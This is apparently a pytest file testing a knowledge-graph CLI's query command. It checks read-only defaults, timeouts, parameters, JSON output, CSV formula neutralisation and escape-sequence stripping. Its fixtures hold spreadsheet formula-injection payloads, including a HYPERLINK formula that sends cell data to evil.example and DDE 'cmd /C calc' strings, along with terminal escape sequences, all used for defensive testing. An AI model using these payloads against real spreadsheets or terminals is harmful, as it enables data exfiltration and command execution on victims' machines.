"""Reliability probes for ``newsgraph query`` and what the CLI prints (issue 9, items 12, 13, 14):
read-only by default, a timeout, unbound parameters named, valid JSON, huge integers, read-only
database files, queries from a file or stdin, spreadsheet-safe CSV, no escape sequences on the terminal."""
from __future__ import annotations

import csv
import io
import json
import stat

import pytest
from click.testing import CliRunner
from reliability_tools import one_line_error, run_cli, unprivileged

from newsgraph.graph import KnowledgeGraph
from newsgraph.graph.cli import main
from newsgraph.graph.store import open_store, run_query
from newsgraph.schema import Edge, Evidence, Model, Organization

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\tTabbed", "\rReturn"]
ESCAPED = "Evil\x1b]0;owned\x07\x1b[2J\x1b[31m Corp\x0b"


def hostile_graph() -> KnowledgeGraph:
    kg = KnowledgeGraph()
    for i, name in enumerate(FORMULAS):
        kg.add_node(Organization(id=f"org-{i}", name=name))
    kg.add_node(Organization(id="evil", name=ESCAPED))
    kg.add_node(Model(id="m1", name="Model One"))
    kg.add_edge(Edge(source="evil", target="m1", type="RELEASED",
                     evidence=[Evidence(article="a1", sentence="Evil released Model One.", start=0, end=24,
                                        rule="released.test", confidence=0.9)]))
    return kg


@pytest.fixture
def db(tmp_path):
    path = tmp_path / "g.db"
    with open_store(path) as store:
        store.write(hostile_graph())
    return str(path)


def cli(*args, input=None):  # noqa: A002
    return CliRunner().invoke(main, list(args), input=input)


def count(db) -> int:
    return run_query("MATCH (n) RETURN count(n) AS n", store=db)[0]["n"]


# -- item 12: read-only by default -----------------------------------------------------------

@pytest.mark.parametrize("statement", ["CREATE (:Organization {id: 'new', name: 'New'})", "MATCH (n) DETACH DELETE n",
                                       "DROP TABLE RELEASED", "MATCH (n:Organization) SET n.name = 'x'"])
def test_query_is_read_only_unless_write_is_given(db, statement):
    before = count(db)
    result = cli("query", statement, "--db", db)
    assert result.exit_code == 1 and "--write" in one_line_error(result)
    assert count(db) == before
    assert run_query("MATCH (n:Organization {id: 'evil'}) RETURN n.name AS name", store=db) == [{"name": ESCAPED}]


def test_write_flag_allows_writes(db):
    before = count(db)
    result = cli("query", "CREATE (:Organization {id: 'new', name: 'New'})", "--db", db, "--write")
    assert result.exit_code == 0, result.output
    assert count(db) == before + 1


def test_db_info_reads_without_writing(db):
    assert cli("db", "info", "--db", db).exit_code == 0


def test_a_read_only_database_file_can_be_queried(db, tmp_path):
    prefix = unprivileged()
    for path in [tmp_path, *tmp_path.iterdir()]:
        path.chmod(stat.S_IMODE(path.stat().st_mode) & ~0o222)
    try:
        result = run_cli("query", "MATCH (n:Organization) RETURN count(n) AS n", "--db", db, "--format", "json",
                         prefix=prefix)
        info = run_cli("db", "info", "--db", db, "--json", prefix=prefix)
    finally:
        for path in [tmp_path, *tmp_path.iterdir()]:
            path.chmod(stat.S_IMODE(path.stat().st_mode) | 0o200)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout) == [{"n": len(FORMULAS) + 1}]
    assert info.returncode == 0 and json.loads(info.stdout)["total_nodes"] == len(FORMULAS) + 2


# -- item 12: timeout, parameters, JSON, integers, query text from a file or stdin -----------

def test_a_runaway_query_is_stopped_by_the_timeout(db):
    runaway = "UNWIND range(1, 200000000) AS i WITH i WHERE i % 7 = 3 RETURN count(i) AS n"
    result = cli("query", runaway, "--db", db, "--timeout", "0.5")
    assert result.exit_code == 1 and "--timeout" in one_line_error(result)


def test_the_timeout_does_not_stay_on_the_connection(db):
    with open_store(db, create=False, read_only=True) as store:
        with pytest.raises(Exception, match="timeout"):
            store.query("UNWIND range(1, 200000000) AS i WITH i WHERE i % 7 = 3 RETURN count(i) AS n", timeout=0.2)
        assert store.query("RETURN 1 AS one") == [{"one": 1}]


def test_a_misspelled_parameter_is_an_error_naming_it(db):
    result = cli("query", "MATCH (n {id: $idd}) RETURN n.name AS name", "--db", db, "-p", "id=evil")
    assert result.exit_code == 2
    line = one_line_error(result)
    assert "$idd" in line and "$id" in line
    unused = cli("query", "MATCH (n) RETURN count(n) AS n", "--db", db, "-p", "limit=3")
    assert unused.exit_code == 2 and "limit" in one_line_error(unused)
    missing = cli("query", "MATCH (n {id: $id}) RETURN n", "--db", db)
    assert missing.exit_code == 2 and "$id" in one_line_error(missing)


def test_dollar_signs_in_strings_and_comments_are_not_parameters():
    from newsgraph.graph.store.statements import parameters

    assert parameters("RETURN '$a' AS x, \"$b\" AS y // $c\n /* $d */") == set()
    assert parameters("MATCH (n {id: $id}) RETURN n LIMIT $`top n`") == {"id", "top n"}


def test_json_output_stays_valid_json_for_nan_and_infinity(db):
    result = cli("query", "RETURN CAST('nan' AS DOUBLE) AS a, 1.0/0.0 AS b, -1.0/0.0 AS c, 1.5 AS d", "--db", db,
                 "--format", "json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.output, parse_constant=lambda c: pytest.fail(f"bare {c} in JSON")) == [
        {"a": None, "b": None, "c": None, "d": 1.5}]


@pytest.mark.parametrize("value", [str(2**63), str(10**30), str(-(10**25))])
def test_huge_integer_parameters_and_results(db, value):
    result = cli("query", "RETURN $v AS v", "--db", db, "-p", f"v={value}", "--format", "json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.output) == [{"v": int(value)}]


def test_query_from_a_file_and_from_stdin(db, tmp_path):
    (tmp_path / "q.cypher").write_text("MATCH (n:Organization {id: $id})\nRETURN n.id AS id", encoding="utf-8")
    from_file = cli("query", "-f", str(tmp_path / "q.cypher"), "--db", db, "-p", "id=evil", "--format", "json")
    assert from_file.exit_code == 0, from_file.output
    assert json.loads(from_file.output) == [{"id": "evil"}]
    from_stdin = cli("query", "-", "--db", db, "--format", "json", input="MATCH (n:Model) RETURN n.id AS id")
    assert json.loads(from_stdin.output) == [{"id": "m1"}]
    also_stdin = cli("query", "--file", "-", "--db", db, "--format", "json", input="RETURN 1 AS one")
    assert json.loads(also_stdin.output) == [{"one": 1}]


def test_query_text_problems_are_usage_errors(db, tmp_path):
    assert cli("query", "--db", db).exit_code == 2
    assert cli("query", "RETURN 1", "-f", str(tmp_path / "q.cypher"), "--db", db).exit_code == 2
    missing = cli("query", "-f", str(tmp_path / "missing.cypher"), "--db", db)
    assert missing.exit_code == 1 and "missing.cypher" in one_line_error(missing)
    old_style = cli("query", "RETURN 1 AS x", "-f", "json", "--db", db)
    assert old_style.exit_code == 2 and "--format json" in old_style.output


@pytest.mark.parametrize("statement, expected", [
    ("CREATE (n:X)", ["CREATE"]), ("MATCH (n) DETACH DELETE n", ["DETACH", "DELETE"]),
    ("match (n) set n.x = 1", ["SET"]), ("MERGE (a:A {id: 1})", ["MERGE"]), ("DROP INDEX i", ["DROP"]),
    ("LOAD CSV FROM 'file:///x' AS r RETURN r", ["LOAD"]), ("CALL { CREATE (n) } IN TRANSACTIONS", ["CREATE"]),
    ("MATCH (n) REMOVE n.x", ["REMOVE"]), ("MATCH (n) FOREACH (x IN [1] | SET n.y = x)", ["FOREACH", "SET"]),
    ("MATCH (n) RETURN n.set AS created, n.`delete` AS d", []), ("MATCH (n:Create) RETURN n", []),
    ("RETURN {delete: 1, merge: 2} AS m", []), ("MATCH (n) WHERE n.name = 'CREATE' RETURN n // DELETE", []),
    ("MATCH (set) RETURN set", []), ("MATCH p = (a)-[*1..3]-(b) RETURN count(p) AS n", []),
])
def test_statement_inspection_for_stores_without_a_read_only_mode(statement, expected):
    from newsgraph.graph.store.statements import write_clauses

    assert write_clauses(statement) == expected


# -- item 13: CSV for people ------------------------------------------------------------------

def test_csv_neutralises_formula_cells_by_default(db):
    result = cli("query", "MATCH (n:Organization) WHERE n.id STARTS WITH 'org-' RETURN n.name AS name, -3 AS n "
                 "ORDER BY n.id", "--db", db, "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.output)))
    assert rows[0] == ["name", "n"]
    assert [r[0] for r in rows[1:]] == ["'" + f.replace("\r", "\n") for f in FORMULAS]  # a lone CR would break the row
    assert {r[1] for r in rows[1:]} == {"-3"}  # a number is no formula


def test_csv_formulas_option_writes_cells_as_they_are(db):
    result = cli("query", "MATCH (n:Organization {id: 'org-0'}) RETURN n.name AS name", "--db", db, "--format", "csv",
                 "--csv-formulas")
    assert list(csv.reader(io.StringIO(result.output)))[1] == [FORMULAS[0]]


def test_neo4j_csv_escapes_its_delimiters(tmp_path):
    kg = KnowledgeGraph()
    kg.add_node(Organization(id="semi", name="Semi;Colon, Inc.", aliases=["A;B", 'Quote "Q"', "Line\nbreak"]))
    kg.add_node(Organization(id="plain", name="Plain", aliases=["P1", "P2"]))
    from newsgraph.graph.export import export_graph

    folder = export_graph(kg, "neo4j-csv", tmp_path / "csv")
    text = (folder / "nodes_Organization.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 3  # a header and two nodes: no value spilled onto a line of its own
    header, *data = rows
    by_id = {r[0]: dict(zip(header, r)) for r in data}
    assert by_id["semi"]["name"] == "Semi;Colon, Inc."
    delimiter = (folder / "IMPORT.txt").read_text(encoding="utf-8").split("--array-delimiter=U+")[1][:4]
    delimiter = chr(int(delimiter, 16))
    assert by_id["semi"]["aliases:string[]"].split(delimiter) == kg.node("semi").aliases  # one item per alias, verbatim
    assert by_id["plain"]["aliases:string[]"].split(delimiter) == kg.node("plain").aliases


# -- item 14: no escape sequences on the terminal ---------------------------------------------

def test_query_table_strips_escape_sequences(db):
    result = cli("query", "MATCH (n:Organization {id: 'evil'}) RETURN n.name AS name", "--db", db)
    assert result.exit_code == 0
    assert "\x1b" not in result.output and "\x07" not in result.output and "\x0b" not in result.output
    assert "Evil Corp" in result.output


def test_build_progress_and_inspection_strip_escape_sequences(tmp_path):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.txt").write_text("Title \x1b]0;owned\x07\x1b[31mred\x1b[0m\nOpenAI released GPT-5.\n",
                                          encoding="utf-8")
    (tmp_path / "in" / "b\x1b[2J.md").write_bytes(b"")  # a file name with an escape sequence, skipped as empty
    graph = tmp_path / "g.json"
    result = cli("build", str(tmp_path / "in"), "-o", str(graph), "--no-db")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "b.md: empty file" in result.output
    neighbors = cli("neighbors", "OpenAI", "-g", str(graph))
    assert neighbors.exit_code == 0 and "\x1b" not in neighbors.output
    error = cli("build", str(tmp_path / "in" / "missing\x1b]0;x\x07.txt"), "-o", str(graph), "--no-db")
    assert error.exit_code == 1 and "\x1b" not in error.output and "\x07" not in error.output


def test_neo4j_read_only_refuses_a_writing_statement_before_sending_it():
    from newsgraph.graph.store.neo4j_store import Neo4jStore
    from newsgraph.graph.store.base import StoreError

    store = Neo4jStore.__new__(Neo4jStore)  # no server here: the refusal must come before any connection is used
    store.read_only, store._driver, store.database = True, None, None
    with pytest.raises(StoreError, match="the query writes \\(MERGE SET\\).*--write"):
        store.query("MERGE (n:Organization {id: 'x'}) SET n.name = 'y'")
